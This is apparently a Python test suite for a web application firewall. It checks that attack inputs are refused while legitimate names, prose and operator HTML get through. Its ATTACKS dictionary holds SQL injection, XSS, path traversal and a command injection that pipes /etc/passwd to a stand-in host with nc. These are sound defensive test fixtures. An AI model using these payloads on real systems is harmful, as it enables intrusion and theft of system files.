"""The application firewall: attacks are stopped, people and operators are not."""

import json
import urllib.parse
import uuid

from nginx_stack import expect

ATTACKS = {
    "SQL injection": "1' OR '1'='1' UNION SELECT password FROM users--",
    "script": "<script>alert(document.cookie)</script>",
    "event handler": '"><img src=x onerror=alert(1)>',
    "traversal": "../../../../etc/passwd",
    "command": ";cat /etc/passwd|nc evil.example 99",
}
GOOD = ("张伟", "欧阳娜娜·王", "Seán O'Brien", "D'Angelo & Söhne", "Zoë <3", "Select a prize from the shop, then drop by or update your profile",
        "买一送一：邀请好友，立减 50%！", "a@example.com; b@example.com", "https://shop.example/welcome?utm_source=x&utm_medium=mail#top")
HTML = '<h1 style="color:red">Spring!</h1><p onclick="go()">Invite a friend <a href="https://shop.example/{{ code }}">here</a></p><script>track(1)</script>'
FORM = {"content-type": "application/x-www-form-urlencoded"}
JSON = {"content-type": "application/json"}


def sent(client, text):
    """A text in all the places where it can come: the query, a form, JSON."""
    quoted = urllib.parse.urlencode({"text": text})
    yield "a query", client.get(f"/page?{quoted}")
    yield "a form", client.ask("POST", "/drill/spring", quoted, FORM)
    yield "JSON", client.ask("POST", "/api/v1/members", json.dumps({"name": text}), JSON)


def stops(_, client):
    """Attacks are refused, wherever they stand, and programs are told in their own words."""
    for name, text in ATTACKS.items():
        for place, answer in sent(client, text):
            expect(answer.status == 403, f"{name} in {place} is answered {answer.status}")
            if place == "JSON":
                expect(json.loads(answer.body)["code"] == "forbidden", f"{name} is told as {answer.body[:100]}")


def lets_through(_, client):
    """Names, prose, e-mail, other methods and pass-phrases are no attack."""
    for text in GOOD:
        for place, answer in sent(client, text):
            expect(answer.status == 200, f"{text} in {place} is answered {answer.status}")
    for method in ("PUT", "PATCH", "DELETE"):
        answer = client.ask(method, "/api/v1/members/mem_1", b'{"name":"Ann"}', JSON)
        expect(answer.status == 200, f"{method} is answered {answer.status}")
    form = urllib.parse.urlencode({"email": "ann@example.com", "password": ATTACKS["SQL injection"]})
    answer = client.ask("POST", "/console/sign-in", form, FORM)
    expect(answer.status == 200, f"a pass-phrase is answered {answer.status}")


def batches(_, client):
    """Thousands of values in one batch of events are no attack."""
    events = [{"type": "signup", "event_id": uuid.uuid4().hex, "external_id": f"person-{n}", "code": "SPRING"} for n in range(1500)]
    answer = client.ask("POST", "/api/v1/events/batch", json.dumps({"events": events}), JSON)
    expect(answer.status == 200, f"1500 events are answered {answer.status}")


def templates(_, client):
    """Operators write HTML where HTML belongs, and nowhere else."""
    settings = json.dumps({"settings": {"name": "Spring", "description": HTML}})
    form = urllib.parse.urlencode({"name": "Spring", "description": HTML})
    cases = (("/api/v1/programs", settings, JSON), ("/api/v1/programs/prg_1/versions", settings, JSON), ("/console/drill/live/programs/new", form, FORM),
             ("/api/v1/campaigns", settings, JSON))
    for path, body, kind in cases:
        answer = client.ask("POST", path, body, kind)
        expect(answer.status == 200, f"HTML at {path} is answered {answer.status}")
    answer = client.ask("POST", "/api/v1/members", json.dumps({"name": HTML}), JSON)
    expect(answer.status == 403, f"HTML as the name of a member is answered {answer.status}")
    answer = client.ask("POST", "/api/v1/programs", json.dumps({"name": ATTACKS["SQL injection"]}), JSON)
    expect(answer.status == 403, f"SQL in a program is answered {answer.status}")


def exempt(_, client):
    """Links and live news are not looked at: the first for their speed, the second since there is nothing to look at."""
    text = urllib.parse.urlencode({"q": ATTACKS["script"]})
    expect(client.get(f"/i/SPRING?{text}").status == 200, "a link is looked at")
    expect(client.get(f"/me/live?{text}").status == 200, "live news are looked at")


def detects(stack, client):
    """NGINX_WAF=detect writes down what it would refuse, and refuses nothing; cookies and keys are not written."""
    secret = uuid.uuid4().hex
    for name, text in ATTACKS.items():
        query = urllib.parse.urlencode({"text": text})
        answer = client.get(f"/page?{query}", cookie=f"session={secret}", authorization=f"Bearer {secret}")
        expect(answer.status == 200, f"{name} is answered {answer.status}")
    found = [json.loads(line)["transaction"] for line in stack.logs("nginx").splitlines() if line.startswith('{"transaction"')]
    rules = {message["details"]["ruleId"] for entry in found for message in entry["messages"]}
    expect({"942100", "941100", "930100"} <= rules, f"only {sorted(rules)} are written down")
    expect(secret not in stack.logs("nginx"), "cookies or keys are written down")
    expect(all(not entry["response"].get("body") for entry in found), "answers are written down")


def without_exclusions(broken):
    broken.write("waf/rules/exclusions.conf", "")


def blind(broken):
    broken.replace("waf-mode/rules.conf", "SecRuleEngine On", "SecRuleEngine DetectionOnly")


BLOCKING = (stops, lets_through, batches, templates, exempt)
BROKEN = ((without_exclusions, templates, "HTML at"), (without_exclusions, lets_through, "a pass-phrase"), (without_exclusions, batches, "1500 events"),
          (blind, stops, "answered 200"))
